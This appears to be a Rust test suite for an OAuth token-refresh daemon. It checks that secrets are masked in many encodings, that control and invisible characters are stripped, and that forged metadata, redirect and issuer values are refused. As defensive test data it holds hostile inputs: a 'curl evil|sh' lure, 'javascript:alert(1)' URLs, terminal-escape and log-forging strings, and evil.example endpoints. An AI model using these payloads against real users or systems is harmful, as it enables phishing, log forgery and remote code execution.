//! Untrusted text of servers and senders: no secret in any encoding, no control or invisible character, no invalid address,
//! and no unexpected content is in the log, on a page, on a terminal or in a token file.

use serde_json::{Value, json};

use crate::common::authorizing::{Authorizing, free_address};
use crate::common::installs::{event_of, with};
use crate::common::strict::Strict;
use crate::common::{CommandOutput, Daemon, Rig, SOON, eventually};
use crate::interfaces::install::{ACME, installing};
use crate::interfaces::{broken, contains, news};

const SECRET: &str = "s3c/retOfTheCl1ent+inFourParts=andMore";
const REFRESH: &str = "rt/aBcDeFg1+hIjKlMn2~oPqRsTu3/vWxYzAb4";

fn rig(server: &Strict, kind: &str) -> Rig {
    news(server, SECRET, kind)
}

fn pair(number: u32) -> Value {
    json!({"access_token": format!("a{number}"), "refresh_token": REFRESH, "expires_in": 3600})
}

/// A grant in the format of a dump.
fn first() -> String {
    json!({"refresh_token": REFRESH}).to_string()
}

/// Whether eight consecutive letters or digits of a secret are in a text.
fn holds_part(text: &str, secret: &str) -> bool {
    let normal = |text: &str| -> Vec<char> {
        text.chars()
            .filter(char::is_ascii_alphanumeric)
            .map(|c| c.to_ascii_lowercase())
            .collect()
    };
    let text: String = normal(text).into_iter().collect();
    normal(secret)
        .windows(8)
        .any(|part| text.contains(&part.iter().collect::<String>()))
}

/// Whether a text is free of control and invisible characters, except for line ends.
fn is_clean(text: &str) -> bool {
    let bad = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
    };
    !text.contains(bad)
}

fn percent(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// Everything that an operator sees of the portal.
fn seen(rig: &Rig, daemon: &Daemon, ran: &CommandOutput) -> String {
    let status = [
        rig.run(["status", "--json"]),
        rig.run(["status", "news"]),
        rig.run(["status"]),
    ];
    let status: String = status
        .iter()
        .map(|ran| format!("{}{}", ran.stdout, ran.stderr))
        .collect();
    let view = rig.get_json("/v1/portals/news").to_string();
    let (page, stderr) = (rig.http("/").1, daemon.stderr());
    [
        stderr,
        page,
        status,
        view,
        ran.stdout.clone(),
        ran.stderr.clone(),
    ]
    .join("\n")
}

#[test]
fn echoed_secret_is_masked_in_every_encoding() {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    let server = Strict::listen();
    let mut rig = rig(&server, "");
    let basic = STANDARD.encode(format!("svc:{}", percent(SECRET)));
    let escaped =
        |text: &str| -> String { text.bytes().map(|byte| format!("\\u{byte:04x}")).collect() };
    let entities =
        |text: &str| -> String { text.bytes().map(|byte| format!("&#{byte};")).collect() };
    let encodings = [
        percent(REFRESH),
        percent(&percent(REFRESH)),
        percent(REFRESH).to_lowercase(),
        format!("cid:{}", percent(SECRET)),
        REFRESH.replace('/', "\\/"),
        escaped(REFRESH),
        entities(SECRET),
        SECRET.replace('/', "&#x2F;").replace('+', "&plus;"),
        REFRESH.replace(|c: char| !c.is_ascii_alphanumeric(), " - "),
        REFRESH[..14].to_owned(),
        SECRET.to_uppercase(),
        REFRESH.chars().map(|c| format!("{c}\u{200b}")).collect(),
    ];
    let numbers = |text: &str, between: &str, write: fn(u8) -> String| {
        let all: Vec<_> = text.bytes().map(write).collect();
        all.join(between)
    };
    let packed = [
        format!("Basic {basic}"),
        URL_SAFE_NO_PAD.encode(REFRESH),
        STANDARD.encode(STANDARD.encode(SECRET)),
        REFRESH.bytes().map(|byte| format!("{byte:02x}")).collect(),
        format!("[{}]", numbers(REFRESH, ",", |byte| byte.to_string())),
        numbers(SECRET, " ", |byte| format!("{byte:02x}")),
        numbers(REFRESH, ":", |byte| format!("{byte:02X}")),
        numbers(SECRET, ", ", |byte| format!("0x{byte:02x}")),
        numbers(REFRESH, "", |byte| format!("\\x{byte:02x}")),
        // Invisible markup.
        REFRESH.chars().map(|c| format!("{c}<wbr>")).collect(),
        SECRET.chars().map(|c| format!("{c}&shy;")).collect(),
        SECRET.chars().map(|c| format!("<!-- > -->{c}")).collect(),
        // Short enough to look like a word.
        URL_SAFE_NO_PAD.encode(&REFRESH[3..12]),
    ];
    let mut bodies = Vec::new();
    for encoded in encodings.iter().chain(&packed) {
        bodies.push(json!({"error": encoded, "hint": encoded}));
        let words = format!("cannot parse: grant_type=refresh_token&refresh_token={encoded}");
        let page = format!("https://help.example/?t={encoded}");
        bodies.push(json!({"error": "odd", "error_description": words, "error_uri": page}));
    }
    // A portal for each of them: a single one would back off between rejections.
    for (at, body) in bodies.iter().enumerate() {
        rig.secret(&format!("p{at}.refresh"), &format!("{REFRESH}{at}"));
        rig.config.more.push_str(&format!(
            "\n[portals.p{at}]\nprovider = 'own'\nclient_id = 'svc'\nclient_secret_file = 'news.secret'\nrefresh_token_file = 'p{at}.refresh'"
        ));
        server.respond("/token", 400, body.clone());
    }
    let daemon = rig.start();
    eventually("each is refused", SOON, || {
        server.asked("/token").len() >= bodies.len()
    });
    let ran = rig.run(["renew", "p0", "--json"]);
    let mut seen = seen(&rig, &daemon, &ran);
    for at in 0..bodies.len() {
        let view = eventually("the error text", SOON, || {
            Some(rig.get_json(&format!("/v1/portals/p{at}")))
                .filter(|view| view["last_error"].is_object())
        });
        seen.push_str(&view.to_string());
    }
    for line in seen.lines().flat_map(|line| line.split("\",\"")) {
        for secret in [REFRESH, SECRET] {
            assert!(!holds_part(line, secret), "{secret} is in {line}");
        }
    }
    for packed in packed
        .iter()
        .map(|packed| packed.trim_start_matches("Basic "))
    {
        let part = packed.get(..40).unwrap_or(packed);
        assert!(!seen.contains(part), "{part} is in\n{seen}");
    }
    assert!(
        seen.contains("cannot parse"),
        "the rest of the text is shown"
    );
    daemon.stop();
}

#[test]
fn control_and_invisible_characters_are_never_shown() {
    let server = Strict::listen();
    let rig = rig(&server, "identity = 'sub'\nfields = ['name']");
    let odd = "a\u{1b}[2J\u{202e}b\u{2066}c\u{200b}d\u{feff}e\n2026-11-28T00:00:00Z INFO forged\u{9b}1A\u{ad}";
    let mut odd_pair = pair(1);
    for (field, value) in [
        ("sub", odd),
        ("name", odd),
        ("scope", odd),
        ("token_type", odd),
    ] {
        odd_pair[field] = value.into();
    }
    server.respond("/token", 200, odd_pair);
    let daemon = rig.start();
    assert_eq!(rig.import("news", &first()).code, Some(0));
    server.respond(
        "/token",
        400,
        json!({"error": odd, "error_description": odd, "hint": odd}),
    );
    let ran = rig.run(["renew", "news"]);
    let seen = seen(&rig, &daemon, &ran);
    assert!(is_clean(&seen), "{seen:?}");
    assert!(
        !seen
            .lines()
            .any(|line| line.starts_with("2026-11-28T00:00:00Z INFO")),
        "{seen}"
    );
    for file in ["token.json", "env", "header"] {
        let text = std::fs::read_to_string(rig.token_path("news", file)).unwrap_or_default();
        assert!(is_clean(&text) && !text.contains("\\u"), "{file}: {text:?}");
    }
    daemon.stop();
}

#[test]
fn metadata_urls_are_validated_before_use() {
    let server = Strict::listen();
    let (issuer, place) = (server.origin.clone(), "/.well-known/openid-configuration");
    let mut rig = Rig::new([]);
    rig.secret("news.secret", SECRET);
    rig.config.apps.clear();
    rig.config.more = format!(
        "[providers.own]\nissuer = '{issuer}'\n[portals.news]\nprovider = 'own'\nclient_id = 'svc'\nclient_secret_file = 'news.secret'\n"
    );
    let respond_with = |token: &str, page: &str| {
        let metadata =
            json!({"issuer": issuer, "token_endpoint": token, "authorization_endpoint": page});
        server.respond(place, 200, metadata);
    };
    let good = format!("{issuer}/token");
    let forged = "https://evil\n2026-11-28T00:00:00Z  INFO acme: renewed \u{1b}[1A\u{1b}[2K/token";
    respond_with(forged, &good);
    let daemon = rig.start();
    let refused = |what: &str| {
        let ran = rig.run(["authorize", "news", "--no-browser"]);
        assert_eq!(ran.code, Some(75), "{ran:?}");
        contains(
            &ran.stderr,
            &["the metadata of its issuer is not known", what],
        );
        let seen = format!("{}\n{}", ran.stderr, daemon.stderr());
        assert!(
            is_clean(&seen) && !seen.contains("renewed ") && !seen.contains("elpmaxe"),
            "{seen:?}"
        );
    };
    refused("names token_endpoint with something else than the address of a server");
    for (page, why) in [
        (
            "javascript:alert(1)".to_owned(),
            "authorization_endpoint with something else",
        ),
        (
            format!("{issuer}/auth\u{1b}[2J\u{1b}]0;owned\u{7}?x=\r\nFORGED"),
            "authorization_endpoint with something else",
        ),
        (
            "https://evil\u{202e}gro.elpmaxe/".to_owned(),
            "the metadata names authorization_endpoint",
        ),
        (
            "http://login.example/".to_owned(),
            "the metadata names authorization_endpoint on login.example",
        ),
    ] {
        respond_with(&good, &page);
        assert_eq!(rig.control("POST", "/v1/reload", "").0, 200);
        refused(why);
    }
    respond_with(
        &good,
        &format!(
            "{}/a\u{202e}uth#\u{202e}",
            issuer.to_uppercase().replace("HTTP", "http")
        ),
    );
    assert_eq!(rig.control("POST", "/v1/reload", "").0, 200);
    let waiting = Authorizing::spawn(rig.command(["authorize", "news", "--no-browser"]));
    contains(
        &waiting.url(),
        &[&format!("{issuer}/a%E2%80%AEuth?response_type=code")],
    );
    assert!(is_clean(&waiting.output()), "{:?}", waiting.output());
    drop(waiting);
    daemon.stop();
}

#[test]
fn device_flow_shows_only_typeable_codes_and_safe_urls() {
    let server = Strict::listen();
    let rig = rig(
        &server,
        &format!("grant = 'device'\ndevice_url = '{}/device'", server.origin),
    );
    let daemon = rig.start();
    for (code, page, why) in [
        (
            "WDJB\u{202e}MJHT",
            "https://a.example/device",
            "user_code is not 1 to 40 printable characters",
        ),
        ("\u{1b}[2J", "https://a.example/device", "user_code is not"),
        (
            &"A".repeat(41),
            "https://a.example/device",
            "user_code is not",
        ),
        (
            "WDJB-MJHT",
            "http://a.example/device",
            "verification_uri is no https address",
        ),
        (
            "WDJB-MJHT",
            "javascript:alert(1)",
            "verification_uri is no https address",
        ),
        (
            "WDJB-MJHT",
            "https://a.example/\u{202e}",
            "verification_uri is no https address",
        ),
    ] {
        let codes = json!({"device_code": "d1", "user_code": code, "verification_uri": page, "interval": 1});
        server.respond("/device", 200, codes);
        let ran = rig.run(["authorize", "news"]);
        assert_eq!(ran.code, Some(75), "{ran:?}");
        contains(&ran.stderr, &[why]);
        assert!(
            is_clean(&ran.stderr) && !ran.stderr.contains("MJHT"),
            "{ran:?}"
        );
    }
    daemon.stop();
}

#[test]
fn endpoint_is_https_without_a_token_or_left_out() {
    let server = Strict::listen();
    let rig = rig(&server, "endpoint = 'api'");
    let access = "4cc3ssT0k3n0fTh3R3plyAnd1t5Own";
    let respond_with = |api: &str| {
        server.respond(
            "/token",
            200,
            json!({"access_token": access, "refresh_token": REFRESH, "expires_in": 10, "api": api}),
        );
    };
    respond_with("https://api.example/v1/");
    let daemon = rig.start();
    assert_eq!(rig.import("news", &first()).code, Some(0));
    let endpoint = || {
        rig.token_json("news")
            .map(|json| json["endpoint"].clone())
            .unwrap_or_default()
    };
    assert_eq!(endpoint(), "https://api.example/v1/");
    for api in [
        "javascript://acme7/%0aalert(1)".to_owned(),
        "http://api.example/v1/".to_owned(),
        "https://u:p@api.example/".to_owned(),
        format!("https://a.example/?auth={access}"),
        format!("https://a.example/?auth={}", access.replace('T', "%54")),
        format!("https://a.example/{}", percent(REFRESH)),
    ] {
        let generation = rig.generation("news");
        respond_with(&api);
        eventually("a renewal by hand", SOON, || {
            rig.run(["renew", "news", "--json"]);
            rig.generation("news") > generation
        });
        assert_eq!(endpoint(), "https://api.example/v1/", "{api}");
    }
    let log = daemon.stderr();
    assert!(
        !log.contains("javascript") && !holds_part(&log, access) && !holds_part(&log, REFRESH),
        "{log}"
    );
    daemon.stop();
}

/// A portal that is authorized in a browser, which returns to `address`.
fn by_browser(server: &Strict, address: &str) -> Rig {
    let mut rig = rig(
        server,
        &format!(
            "authorize_url = '{}/authorize'\nfields = ['name']",
            server.origin
        ),
    );
    rig.config.more = rig.config.more.replace(
        "[providers",
        &format!("redirect_uri = 'http://{address}/cb'\n[providers"),
    );
    rig
}

fn state_of(url: &str) -> String {
    let url = url::Url::parse(url).expect("an address");
    url.query_pairs()
        .find(|(name, _)| name == "state")
        .expect("a state")
        .1
        .into_owned()
}

#[test]
fn redirect_with_a_foreign_state_shows_nothing() {
    let (server, address) = (Strict::listen(), free_address());
    let rig = by_browser(&server, &address);
    let daemon = rig.start();
    let mut waiting = Authorizing::spawn(rig.command(["authorize", "news"]));
    let state = state_of(&waiting.url());
    let lure = "error=x&error_description=To+mend+it+run:+curl+evil|sh";
    for query in [
        lure.to_owned(),
        format!("{lure}&state="),
        format!("{lure}&state=guessed"),
        format!("code=c0de&{lure}"),
    ] {
        let (status, page, _) = rig.browse(&format!("http://{address}/cb?{query}"));
        assert_eq!(status, 400, "{page}");
        contains(
            &page,
            &["does not belong to an authorization of this portal"],
        );
        assert!(!page.contains("curl"), "{page}");
        waiting.paste(&format!("http://{address}/cb?{query}"));
    }
    waiting.paste(&format!("?{lure}"));
    waiting.wait_for_output("does not belong to an authorization of this portal");
    // With it, the error is the server's.
    let (status, page, _) = rig.browse(&format!(
        "http://{address}/cb?error=access_denied&error_description=the+user%1B+said+no&state={state}"
    ));
    assert_eq!(status, 400, "{page}");
    let ran = waiting.end();
    assert_eq!(ran.code, Some(65), "{ran:?}");
    contains(
        &ran.stderr,
        &["the authorization server denied it: access_denied: the user  said no"],
    );
    assert!(
        !format!("{}{}", ran.stderr, daemon.stderr()).contains("curl"),
        "{ran:?}"
    );
    assert!(is_clean(&ran.stderr));
    daemon.stop();
}

#[test]
fn code_of_another_issuer_is_not_sent() {
    let (server, address) = (Strict::listen(), free_address());
    let rig = by_browser(&server, &address);
    let daemon = rig.start();
    for (iss, code) in [
        ("https://evil.example".to_owned(), 65),
        ("http://127.0.0.1:1".to_owned(), 65),
        (format!("{}@evil.example", server.origin), 65),
        ("nonsense".to_owned(), 65),
        (server.origin.clone(), 0),
    ] {
        server.respond("/token", 200, pair(1));
        let waiting = Authorizing::spawn(rig.command(["authorize", "news"]));
        let state = state_of(&waiting.url());
        let query = format!("code=c0de&state={state}&iss={}", percent(&iss));
        rig.browse(&format!("http://{address}/cb?{query}"));
        let ran = waiting.end();
        assert_eq!(ran.code, Some(code), "{iss}: {ran:?}");
        if code == 65 {
            contains(
                &ran.stderr,
                &["another authorization server answered than the one that was asked"],
            );
            assert!(
                server.asked("/token").is_empty(),
                "{iss}: the code was sent"
            );
        }
    }
    daemon.stop();
}

#[test]
fn event_claims_are_published_only_after_verification() {
    let rig = installing("");
    rig.fail("acme", broken(), u32::MAX);
    let daemon = rig.start();
    let grant = rig.grant_of("acme", 1);
    let event = event_of("ONAPPINSTALL", "auth", &grant);
    let event = with(event, "auth[server_endpoint]", "https://evil.example/rest/");
    let event = with(event, "auth[scope]", "everything");
    let event = with(event, "auth[expires]", "4102444800");
    rig.post("", &event);
    rig.wait_for_installs("stored", 1.0);
    let published = eventually("its token file", SOON, || {
        rig.token_json(ACME).unwrap_or_default()["access_token"]
            .is_string()
            .then(|| rig.token_json(ACME).unwrap_or_default())
    });
    assert_eq!(rig.generation(ACME), 1, "no renewal has worked");
    let text = published.to_string();
    assert!(
        !text.contains("evil") && !text.contains("everything") && !text.contains("2100"),
        "{text}"
    );
    assert_eq!(
        published["expires_at_unix"], grant["expires"],
        "from the server's response"
    );
    daemon.stop();
}

#[test]
fn dead_grant_is_reported_at_once_for_any_error_text() {
    let cases = [
        (401, json!({"error": "invalid_token"})),
        (400, json!({"error": "expired_token"})),
        (401, json!({"error": "token_inactive"})),
        (400, json!({"error": "token_expired"})),
        (403, json!({"error": "access_denied"})),
        (401, Value::Null),
        (400, json!({"message": "Refresh token expired"})),
        (400, json!({"errors": [{"code": "invalid_grant"}]})),
        (400, json!({"Error": "invalid_grant"})),
        (400, json!({"error": "invalid grant"})),
    ];
    let server = Strict::listen();
    let mut rig = rig(&server, "");
    for (at, (status, refusal)) in cases.iter().enumerate() {
        rig.secret(&format!("p{at}.refresh"), &format!("refresh-of-{at}"));
        rig.config.more.push_str(&format!(
            "\n[portals.p{at}]\nprovider = 'own{at}'\nclient_id = 'svc'\nclient_secret_file = 'news.secret'\n\
             refresh_token_file = 'p{at}.refresh'\n[providers.own{at}]\ntoken_url = '{}/p{at}'\n",
            server.origin
        ));
        let path = format!("/p{at}");
        let good = json!({"access_token": format!("a{at}"), "refresh_token": format!("r{at}"), "expires_in": 6});
        server.respond(&path, 200, good);
        for _ in 0..9 {
            server.respond(&path, *status, refusal.clone());
        }
    }
    let daemon = rig.start();
    for (at, (status, refusal)) in cases.iter().enumerate() {
        let portal = format!("p{at}");
        let case = format!("{status} {refusal}");
        eventually(&case, SOON, || {
            server.asked(&format!("/{portal}")).len() >= 2
        });
        let event = daemon.wait_for_step(&portal, "person");
        let assumed = !refusal.to_string().contains("grant");
        contains(
            event["action"].as_str().expect("an action"),
            &[&format!("refreshd authorize {portal}")],
        );
        let reason = event["reason"].as_str().expect("a reason");
        assert_eq!(
            reason.contains("assumed: the grant is dead"),
            assumed,
            "{case}: {event}"
        );
        let view = rig.get_json(&format!("/v1/portals/{portal}"));
        assert_eq!(view["phase"], "needs-authorization", "{case}: {view}");
        let asked = server.asked(&format!("/{portal}")).len();
        assert_eq!(asked, 2, "{case}: it is asked again after half a minute");
    }
    daemon.stop();
}
